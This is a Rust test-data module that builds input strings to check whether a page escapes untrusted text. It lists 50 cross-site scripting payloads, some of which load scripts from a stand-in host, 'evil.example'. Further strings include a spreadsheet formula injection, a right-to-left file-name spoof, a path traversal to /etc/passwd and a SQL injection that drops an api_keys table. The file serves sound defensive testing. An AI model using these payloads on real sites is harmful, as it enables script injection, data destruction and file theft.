//! Texts that want to be more than text.

/// What runs if a page takes a text for something else. `ran` is the page's list of what did.
const SCRIPT: &str = "ran.push(1)";

/// Ways out of the place where a text stands, with `@` for the script.
const WAYS: [&str; 50] = [
    "<script>@</script>",
    "</script><script>@</script>",
    "\"><script>@</script>",
    "'><script>@</script>",
    "--><script>@</script>",
    "</title><script>@</script>",
    "</textarea><script>@</script>",
    "</code></td></tr></table><script>@</script>",
    "<ScRiPt>@</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,@></script>",
    "<img src=x onerror=@>",
    "<img src=1 onerror=\"@\">",
    "\"><img src=x onerror=@>",
    "<img/src=x/onerror=@>",
    "<img src='x' onerror='@'",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src=\"javascript:parent.@\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"javascript:@\">",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<body onload=@>",
    "<details open ontoggle=@>x</details>",
    "<input autofocus onfocus=@>",
    "<video><source onerror=@></video>",
    "<marquee onstart=@>x</marquee>",
    "<a href=\"javascript:@\">x</a>",
    "javascript:@",
    "\" onmouseover=\"@\" x=\"",
    "' onfocus='@' autofocus='",
    "\" autofocus onfocus=\"@\"",
    "`-@-`",
    "${@}",
    "{{@}}",
    "{% @ %}",
    "';@;//",
    "\\\";@;//",
    "\\u003cscript\\u003e@\\u003c/script\\u003e",
    "&lt;script&gt;@&lt;/script&gt;",
    "&#60;script&#62;@&#60;/script&#62;",
    "%3Cscript%3E@%3C/script%3E",
    "<!--[if gte IE 4]><script>@</script><![endif]-->",
];

/// Texts that no escaping breaks on, but that pages have broken on: other scripts, other directions, formulas.
const ODD: [&str; 10] = [
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "\u{202e}gnp.exe\u{202c} right to left",
    "שלום עולם, this way",
    "Ünïcödé 部署 \u{1f511}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "Z\u{0351}\u{036b}\u{0343}a\u{0312}\u{0308}l\u{033d}go",
    "..%2f..%2fetc%2fpasswd",
    "' OR 1=1; DROP TABLE api_keys; --",
    "NULL",
    "\u{ff1c}script\u{ff1e}ran.push(1)\u{ff1c}/script\u{ff1e}",
    "zero\u{200b}width\u{2060}joined\u{feff}text",
];

/// Each way, each with another number, so that no two are the same; 100 characters at most.
pub(super) fn texts(kind: usize) -> Vec<String> {
    let ways = WAYS.iter().enumerate().map(|(number, way)| {
        let text = way.replace('@', SCRIPT);
        format!("{kind}.{number} {text}")
    });
    let bare = WAYS
        .iter()
        .map(|way| way.replace('@', &format!("ran.push({kind})")));
    let odd = ODD.iter().map(|text| format!("{kind} {text}"));
    ways.chain(bare).chain(odd).collect()
}
